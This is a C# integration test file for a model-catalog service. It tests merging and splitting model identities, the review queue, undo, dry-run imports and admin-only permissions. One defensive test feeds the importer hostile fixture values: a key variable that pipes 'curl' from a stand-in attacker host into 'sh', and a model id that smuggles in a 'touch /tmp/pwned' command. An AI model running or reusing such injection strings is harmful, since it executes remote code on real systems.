using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using ModelHub.Web.Features.Catalog;
using ModelHub.Web.Features.Catalog.Identity;
using ModelHub.Web.Features.Catalog.Import;
using ModelHub.Web.Features.Common;

namespace ModelHub.IntegrationTests;

/// <summary>Merge, split, the review queue and undo, through the service the admin page and CLI call, against re-imports.</summary>
[Trait("Database", "true")]
public sealed class CatalogIdentityChangeTests : IntegrationTest
{
    private static ImportBatch Batch(params (string Provider, string Id, decimal Price)[] routes) => new(
        CatalogImportFormat.OpenRouter,
        routes.Select(r => r.Provider).Distinct().Select(p => new ImportedProvider(p, p, ApiStyle.OpenAiCompatible, null, null, null)).ToList(),
        routes.Select(r => new ImportedRoute(r.Provider, r.Id, new ImportedModel(ImportJson.Slugify(r.Id), r.Id, "Unknown"), r.Price, r.Price * 4, null, 128_000, 8_192, false, $"Model '{r.Id}'")).ToList());

    private async Task<ImportResult> ImportAsync(ImportBatch batch, bool dryRun = false)
    {
        await using var scope = app.Services.CreateAsyncScope();
        return await scope.ServiceProvider.GetRequiredService<CatalogImporter>().ImportAsync(batch, "identity test", dryRun);
    }

    private async Task<T> IdentityAsync<T>(Func<CatalogIdentityService, Caller, Task<T>> act, bool admin = true)
    {
        var user = await app.CreateUserAsync($"{Guid.NewGuid():N}@example.com", admin);
        await using var scope = app.Services.CreateAsyncScope();
        return await act(scope.ServiceProvider.GetRequiredService<CatalogIdentityService>(), new Caller(user.Id, admin));
    }

    private Task<string?> ModelOfAsync(string provider, string id) =>
        app.WithDbAsync(db => db.Routes.Where(r => r.Provider.Slug == provider && r.ProviderModelId == id).Select(r => r.Model.Slug).SingleOrDefaultAsync());

    // Two spellings the rules cannot tie: Mistral sells Small 3.1 as "mistral-small-2503"; OpenRouter names it by version and size.
    private static readonly ImportBatch MistralSmall = Batch(("mistral", "mistral-small-2503", 0.1m), ("openrouter", "mistralai/mistral-small-3.1-24b-instruct", 0.1m));

    [Fact]
    public async Task MergeMovesRoutesAndAReImportChangesNothing()
    {
        await ImportAsync(MistralSmall);
        var from = await ModelOfAsync("openrouter", "mistralai/mistral-small-3.1-24b-instruct");
        var into = await ModelOfAsync("mistral", "mistral-small-2503");
        Assert.NotEqual(from, into);

        var change = await IdentityAsync((s, c) => s.MergeAsync(c, from!, into!));
        var again = await ImportAsync(MistralSmall);

        Assert.Equal(into, await ModelOfAsync("openrouter", "mistralai/mistral-small-3.1-24b-instruct"));
        Assert.Equal(IdentityChangeKind.Merge, change.Kind);
        Assert.Equal(0, again.Added);
        Assert.False(again.Written);
        Assert.Null(await app.WithDbAsync(db => db.Models.SingleOrDefaultAsync(m => m.Slug == from)));
        Assert.All(again.Matches, m => Assert.Equal(MatchKind.Exact, m.Kind));
    }

    [Fact]
    public async Task AfterAMergeANewSpellingOfTheMergedModelJoinsTheTarget()
    {
        await ImportAsync(MistralSmall);
        var from = await ModelOfAsync("openrouter", "mistralai/mistral-small-3.1-24b-instruct");
        var into = await ModelOfAsync("mistral", "mistral-small-2503");
        await IdentityAsync((s, c) => s.MergeAsync(c, from!, into!));

        var result = await ImportAsync(Batch(("deepinfra", "mistralai/Mistral-Small-3.1-24B-Instruct", 0.1m)));

        Assert.Equal(into, await ModelOfAsync("deepinfra", "mistralai/Mistral-Small-3.1-24B-Instruct"));
        Assert.Contains(Assert.Single(result.Matches).Kind, new[] { MatchKind.Alias, MatchKind.Rule });
    }

    [Fact]
    public async Task UndoOfAMergeBringsTheModelAndItsRoutesBack()
    {
        await ImportAsync(MistralSmall);
        var from = await ModelOfAsync("openrouter", "mistralai/mistral-small-3.1-24b-instruct");
        var into = await ModelOfAsync("mistral", "mistral-small-2503");
        var change = await IdentityAsync((s, c) => s.MergeAsync(c, from!, into!));

        var undone = await IdentityAsync((s, c) => s.UndoAsync(c, change.Id));
        var reimport = await ImportAsync(MistralSmall);

        Assert.NotNull(undone.UndoneAtUtc);
        Assert.Equal(from, await ModelOfAsync("openrouter", "mistralai/mistral-small-3.1-24b-instruct"));
        Assert.Equal(0, await app.WithDbAsync(db => db.ModelAliases.CountAsync()));
        Assert.False(reimport.Written);
        await Assert.ThrowsAsync<ConflictException>(() => IdentityAsync((s, c) => s.UndoAsync(c, change.Id)));
    }

    [Fact]
    public async Task SplitSurvivesAReImportAndUndoPutsTheRouteBack()
    {
        // The rules join these (Groq's "-versatile" is a serving name, "instruct" a loose tag); say OpenRouter's is another model.
        var batch = Batch(("groq", "llama-3.3-70b-versatile", 0.59m), ("openrouter", "meta-llama/llama-3.3-70b-instruct", 0.13m));
        await ImportAsync(batch);
        var model = await ModelOfAsync("groq", "llama-3.3-70b-versatile");
        Assert.Equal(model, await ModelOfAsync("openrouter", "meta-llama/llama-3.3-70b-instruct"));

        var change = await IdentityAsync((s, c) => s.SplitAsync(c, "openrouter", "meta-llama/llama-3.3-70b-instruct", "Llama 3.3 70B (OpenRouter)"));
        var reimport = await ImportAsync(batch);
        var split = await ModelOfAsync("openrouter", "meta-llama/llama-3.3-70b-instruct");

        Assert.NotEqual(model, split);
        Assert.False(reimport.Written);
        Assert.Equal("Llama 3.3 70B (OpenRouter)", await app.WithDbAsync(db => db.Models.Where(m => m.Slug == split).Select(m => m.Name).SingleAsync()));

        await IdentityAsync((s, c) => s.UndoAsync(c, change.Id));

        Assert.Equal(model, await ModelOfAsync("openrouter", "meta-llama/llama-3.3-70b-instruct"));
        Assert.Equal(0, await app.WithDbAsync(db => db.Models.CountAsync(m => m.Slug == split)));
    }

    [Fact]
    public async Task SplittingAModelsOnlyRouteIsRefused()
    {
        await ImportAsync(Batch(("groq", "acme-solo-7b", 0.05m)));

        var error = await Assert.ThrowsAsync<InvalidInputException>(() => IdentityAsync((s, c) => s.SplitAsync(c, "groq", "acme-solo-7b")));

        Assert.Contains("only route", error.Message);
    }

    [Fact]
    public async Task DryRunExplainsEachRouteAndWritesNothing()
    {
        await ImportAsync(Batch(("anthropic", "claude-3-5-haiku-20241022", 0.8m)));

        var result = await ImportAsync(Batch(
            ("anthropic", "claude-3-5-haiku-20241022", 0.8m),
            ("amazon-bedrock", "us.anthropic.claude-3-5-haiku-20241022-v1:0", 0.8m),
            ("openrouter", "anthropic/claude-3.5-haiku", 0.8m),
            ("openai", "gpt-4o-2024-05-13", 5m),
            ("openai", "gpt-4o-2024-08-06", 2.5m),
            ("azure", "gpt-4o", 2.5m)), dryRun: true);

        var byId = result.Matches.ToDictionary(m => m.ProviderModelId);
        Assert.Equal(MatchKind.Exact, byId["claude-3-5-haiku-20241022"].Kind);
        Assert.Equal(MatchKind.Rule, byId["us.anthropic.claude-3-5-haiku-20241022-v1:0"].Kind);
        Assert.Contains("cloud region prefix", byId["us.anthropic.claude-3-5-haiku-20241022-v1:0"].Reason);
        Assert.Equal(MatchKind.Rule, byId["anthropic/claude-3.5-haiku"].Kind);
        Assert.Equal(byId["claude-3-5-haiku-20241022"].ModelSlug, byId["anthropic/claude-3.5-haiku"].ModelSlug);
        Assert.Contains("beside 1 other date", byId["gpt-4o-2024-05-13"].Reason);
        Assert.Equal(MatchKind.New, byId["gpt-4o-2024-08-06"].Kind);
        Assert.Equal(MatchKind.Rule, byId["gpt-4o"].Kind);
        Assert.Equal("gpt-4o", byId["gpt-4o"].ModelSlug);
        Assert.False(result.Written);
        Assert.Equal(1, await app.WithDbAsync(db => db.Routes.CountAsync(r => r.ProviderModelId.Contains("haiku"))));
    }

    [Fact]
    public async Task ReviewItemPlacedByAnAdministratorStaysOnTheNextImportAndUndoReturnsIt()
    {
        var batch = Batch(("openai", "gpt-4.5-preview-2025-02-27", 75m), ("openai", "gpt-4.5-preview-2025-03-01", 70m), ("openrouter", "openai/gpt-4.5-preview", 75m));
        var first = await ImportAsync(batch);
        var item = Assert.Single(await IdentityAsync((s, c) => s.ReviewQueueAsync(c)));
        Assert.Equal(1, first.NeedsReview);
        Assert.Equal(2, item.Candidates.Count);
        Assert.Null(await ModelOfAsync("openrouter", "openai/gpt-4.5-preview"));

        var change = await IdentityAsync((s, c) => s.ResolveReviewAsync(c, item.Id, item.Candidates[0]));
        var reimport = await ImportAsync(batch);

        Assert.Equal(item.Candidates[0], await ModelOfAsync("openrouter", "openai/gpt-4.5-preview"));
        Assert.Empty(await IdentityAsync((s, c) => s.ReviewQueueAsync(c)));
        Assert.Equal(0, reimport.NeedsReview);

        await IdentityAsync((s, c) => s.UndoAsync(c, change.Id));

        Assert.Null(await ModelOfAsync("openrouter", "openai/gpt-4.5-preview"));
        Assert.Single(await IdentityAsync((s, c) => s.ReviewQueueAsync(c)));
    }

    [Fact]
    public async Task HostileModelIdIsSkippedAndAHostileKeyVariableDropped()
    {
        var batch = new ImportBatch(CatalogImportFormat.ModelsDev,
            [new ImportedProvider("evil-cloud", "Evil Cloud", ApiStyle.OpenAiCompatible, "https://api.evil.example/v1", null, "EVIL\"; curl -s https://attacker.example/x | sh; echo \"")],
            [
                new ImportedRoute("evil-cloud", "x'; touch /tmp/pwned; echo '", new ImportedModel("x", "x", "Unknown"), 1, 2, null, null, null, false, "Provider 'evil-cloud', model 'x'"),
                new ImportedRoute("evil-cloud", "acme-fine-7b", new ImportedModel("acme-fine-7b", "Acme Fine 7B", "Unknown"), 1, 2, null, null, null, false, "Provider 'evil-cloud', model 'acme-fine-7b'"),
            ]);

        var result = await ImportAsync(batch);

        Assert.Equal(1, result.Skipped);
        Assert.Contains("skipped as malformed", result.Summary);
        Assert.Equal("acme-fine-7b", Assert.Single(await app.WithDbAsync(db => db.Routes.Where(r => r.Provider.Slug == "evil-cloud").Select(r => r.ProviderModelId).ToListAsync())));
        Assert.Null(await app.WithDbAsync(db => db.Providers.Where(p => p.Slug == "evil-cloud").Select(p => p.ApiKeyVariable).SingleAsync()));
    }

    [Fact]
    public async Task LikelyDuplicatesNameTheEvidence()
    {
        await ImportAsync(Batch(("ai21", "jamba-large-1.6", 2m)));
        await app.WithDbAsync(async db =>
        {
            var model = await db.Models.SingleAsync(m => m.Routes.Any(r => r.ProviderModelId == "jamba-large-1.6"));
            db.Models.Add(new CatalogModel { Slug = "jamba-large-1-6-copy", Name = model.Name, Lab = model.Lab, SourceId = model.SourceId });
            return await db.SaveChangesAsync();
        });

        var pair = Assert.Single(await IdentityAsync((s, c) => s.DuplicatesAsync(c)), p => p.Second.Slug == "jamba-large-1-6-copy" || p.First.Slug == "jamba-large-1-6-copy");

        Assert.Contains(pair.Evidence, e => e.Contains("same name"));
    }

    [Fact]
    public async Task OnlyAnInstanceAdministratorMergesSplitsOrUndoes()
    {
        await ImportAsync(MistralSmall);

        await Assert.ThrowsAsync<ForbiddenException>(() => IdentityAsync((s, c) => s.MergeAsync(c, "mistral-small-3.1-24b-instruct", "mistral-small-2503"), admin: false));
        await Assert.ThrowsAsync<ForbiddenException>(() => IdentityAsync((s, c) => s.SplitAsync(c, "mistral", "mistral-small-2503"), admin: false));
        await Assert.ThrowsAsync<ForbiddenException>(() => IdentityAsync((s, c) => s.DuplicatesAsync(c), admin: false));
    }

    [Fact]
    public async Task MergedModelsSlugRedirectsToTheTarget()
    {
        await ImportAsync(MistralSmall);
        var from = await ModelOfAsync("openrouter", "mistralai/mistral-small-3.1-24b-instruct");
        var into = await ModelOfAsync("mistral", "mistral-small-2503");
        await IdentityAsync((s, c) => s.MergeAsync(c, from!, into!));

        await using var scope = app.Services.CreateAsyncScope();
        var details = scope.ServiceProvider.GetRequiredService<ModelDetailQueries>();

        Assert.Null(await details.GetAsync(from!));
        Assert.Equal(into, await details.MergedIntoAsync(from!));

        var reader = await app.CreateUserAsync($"{Guid.NewGuid():N}@example.com");
        var response = await reader.Api.GetAsync($"/api/v1/models/{from}");
        Assert.Equal(System.Net.HttpStatusCode.PermanentRedirect, response.StatusCode);
        Assert.Equal($"/api/v1/models/{into}", response.Headers.Location?.OriginalString);
    }
}
